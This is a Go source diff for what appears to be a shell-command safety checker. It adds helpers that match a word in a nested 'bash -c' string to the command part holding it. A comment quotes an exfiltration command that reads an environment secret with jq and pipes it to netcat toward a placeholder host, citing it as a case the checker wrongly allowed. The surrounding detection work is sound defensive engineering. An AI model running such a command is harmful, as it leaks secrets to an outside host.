@@ -1,0 +1,37 @@
+package patterns
+
+// A word read from a nested string that does not stand as written in
+// the command (bash -c '… '\''…'\'' …', a double-quoted string with
+// escapes) has the span of the whole string, as has every other word
+// read from it; a span then names no one part. The classes that find the
+// part a word belongs to (the sender a pipe feeds, the part a word is
+// an argument of) would take the string's first part for every one:
+// `bash -c "jq -n '\$ENV.KEY' | nc HOST 53"` judged jq as the sender,
+// and was allowed where the line itself asks (FuzzWrappedNeverWeaker).
+// A word judged is a copy of the part's, sharing its segments: that
+// identity names the part first, the span only when it does not.
+
+// sameWord reports whether a and b are copies of one word of the
+// command: they share their segments.
+func sameWord(a, b *Word) bool {
+	return len(a.Segs) > 0 && len(b.Segs) > 0 && &a.Segs[0] == &b.Segs[0] && len(a.Segs) == len(b.Segs)
+}
+
+// partHolding returns the part of cmd that holds a copy of w among its
+// words (its program's at index 0 when program is set), or nil.
+func partHolding(cmd *Command, w *Word, program bool) *Part {
+	for _, p := range cmd.Parts {
+		if p == nil {
+			continue
+		}
+		for i := range p.Words {
+			if program && i > 0 {
+				break
+			}
+			if sameWord(&p.Words[i], w) {
+				return p
+			}
+		}
+	}
+	return nil
+}
